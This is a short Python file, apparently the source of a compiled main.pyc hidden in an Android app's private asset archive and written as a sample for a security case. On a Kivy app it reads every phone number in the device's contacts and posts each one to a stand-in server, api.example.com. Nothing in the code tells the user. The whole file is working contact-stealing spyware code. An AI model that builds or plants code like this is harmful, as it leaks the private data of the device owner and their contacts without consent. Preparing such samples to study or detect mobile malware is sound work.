"""Written for this case: what main.pyc in assets/private.tar is compiled from."""

import urllib.request

from jnius import autoclass

PythonActivity = autoclass("org.kivy.android.PythonActivity")
Phone = autoclass("android.provider.ContactsContract$CommonDataKinds$Phone")

cursor = PythonActivity.mActivity.getContentResolver().query(Phone.CONTENT_URI, None, None, None, None)
while cursor.moveToNext():
    line = cursor.getString(cursor.getColumnIndex("data1"))
    urllib.request.urlopen("https://api.example.com/v1/people", line.encode())
